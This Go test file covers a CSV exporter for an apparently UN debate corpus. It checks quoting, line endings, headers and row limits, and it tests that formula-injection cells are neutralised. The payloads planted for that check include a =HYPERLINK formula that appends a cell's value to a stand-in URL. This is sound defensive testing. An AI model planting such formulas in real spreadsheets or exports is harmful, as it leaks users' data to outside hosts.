package reports

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/scdebate/scdebate/corpus"
)

func TestCSV(t *testing.T) {
	tests := []struct {
		name string
		cfg  genConfig
		opts Options
	}{
		{"plain", smallCorpus, Options{}},
		{"bom", smallCorpus, Options{BOM: true}},
		{"filtered with counterpart", genConfig{Seed: 5, FirstSession: 79, Sessions: 1, Meetings: 2, Speeches: 12, Paragraphs: 5, Counterpart: "es", Tricky: true},
			Options{Counterpart: "es", Themes: []string{"veto", "transparency", "open-debates"}}},
		{"capped", smallCorpus, Options{MaxRows: 7}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := genWorkspace(t, tt.cfg)
			var buf bytes.Buffer
			if err := WriteCSV(context.Background(), &buf, ws, tt.opts); err != nil {
				t.Fatal(err)
			}
			data := buf.Bytes()
			if got := bytes.HasPrefix(data, []byte("\xef\xbb\xbf")); got != tt.opts.BOM {
				t.Fatalf("BOM present %v, want %v", got, tt.opts.BOM)
			}
			data = bytes.TrimPrefix(data, []byte("\xef\xbb\xbf"))
			if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
				t.Fatal("line ends are not CRLF throughout")
			}
			r := csv.NewReader(bytes.NewReader(data))
			records, err := r.ReadAll()
			if err != nil {
				t.Fatalf("not RFC 4180 CSV: %v", err)
			}
			header := append([]string(nil), CommentColumns...)
			if tt.opts.Counterpart != "" {
				header = append(header[:len(header)-2], "Text ("+tt.opts.Counterpart+")", "Link", ColumnPassage)
			}
			if !slices.Equal(records[0], header) {
				t.Fatalf("header = %q, want %q", records[0], header)
			}
			want := expect(collect(genDocuments(tt.cfg)), tt.opts)
			n := len(want.comments)
			if tt.opts.MaxRows > 0 {
				n = min(n, tt.opts.MaxRows)
			}
			if got := len(records) - 1; got != n {
				t.Fatalf("%d rows, want %d", got, n)
			}
			tricky := 0
			textCol := slices.Index(CommentColumns, "Text")
			for i, rec := range records[1:] {
				c := want.comments[i]
				// encoding/csv reads a quoted CRLF as LF.
				text := strings.ReplaceAll(c.text, "\r\n", "\n")
				if rec[textCol] != text || rec[2] != c.rec.Symbol || rec[5] != strconv.Itoa(c.n) || rec[10] != c.themesText() || rec[len(rec)-2] != c.link() ||
					rec[len(rec)-1] != corpus.PassageID(corpus.RecordKey(c.rec), c.sp.Seq, c.n) {
					t.Fatalf("row %d = %q, want %s para %d %q", i+1, rec, c.rec.Symbol, c.n, text)
				}
				if tt.opts.Counterpart != "" && rec[textCol+1] != strings.ReplaceAll(c.counterpart, "\r\n", "\n") {
					t.Fatalf("row %d counterpart %q, want %q", i+1, rec[textCol+1], c.counterpart)
				}
				if strings.Contains(c.text, `"enough"`) {
					tricky++
				}
			}
			if tt.cfg.Tricky && tt.opts.MaxRows == 0 {
				if tricky == 0 {
					t.Fatal("no paragraph with quotes, commas and line breaks was exported")
				}
				if !bytes.Contains(data, []byte(`He said ""enough"", then paused,`+"\r\n")) {
					t.Fatal("quotes are not doubled inside a quoted field")
				}
			}
		})
	}
}

// TestCSVFormulaCells checks that text a spreadsheet would run as a
// formula is written inert, unless RawCSV asks for the cells as they are.
func TestCSVFormulaCells(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://example.invalid/?"&A1,"click")`,
		"+1+2",
		"-2+3",
		"@SUM(1,2)",
		"\t=1+1",
		"\r=1+1",
	}
	docs := collect(genDocuments(genConfig{Seed: 3, FirstSession: 79, Sessions: 1, Meetings: 1, Speeches: 40, Paragraphs: 2}))
	rec, ann := docs[0].Record, docs[0].Annotation
	coded := map[[2]int]bool{}
	for _, sa := range ann.Speeches {
		for _, pa := range sa.Paragraphs {
			if len(pa.Themes) > 0 {
				coded[[2]int{sa.Seq, pa.N}] = true
			}
		}
	}
	planted := 0
	for i := range rec.Speeches {
		sp := &rec.Speeches[i]
		if planted == len(hostile) || len(sp.Paragraphs) == 0 || !coded[[2]int{sp.Seq, sp.Paragraphs[0].N}] {
			continue
		}
		sp.Speaker = hostile[planted]
		sp.Paragraphs[0].Text = hostile[planted] + " and the rest of the paragraph."
		planted++
	}
	if planted < len(hostile) {
		t.Fatalf("only %d coded paragraphs to plant formulas in, want %d", planted, len(hostile))
	}
	for _, tt := range []struct {
		name   string
		raw    bool
		prefix string
	}{
		{"guarded", false, "'"},
		{"raw", true, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteCSVFrom(context.Background(), &buf, documentsOf(docs), Options{RawCSV: tt.raw}); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			speakers := map[string]bool{}
			texts := map[string]bool{}
			for _, rec := range records[1:] {
				speakers[rec[8]] = true
				texts[rec[slices.Index(CommentColumns, "Text")]] = true
				for _, cell := range rec {
					if tt.raw || cell == "" {
						continue
					}
					if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %q starts like a formula", cell)
					}
				}
			}
			for _, h := range hostile {
				// encoding/csv drops the carriage returns of quoted fields.
				h = tt.prefix + strings.ReplaceAll(h, "\r", "")
				if !speakers[h] {
					t.Errorf("no speaker cell %q", h)
				}
				if !texts[h+" and the rest of the paragraph."] {
					t.Errorf("no text cell %q", h+" and the rest of the paragraph.")
				}
			}
		})
	}
}

func documentsOf(docs []*Document) Documents {
	return func(yield func(*Document, error) bool) {
		for _, d := range docs {
			if !yield(d, nil) {
				return
			}
		}
	}
}
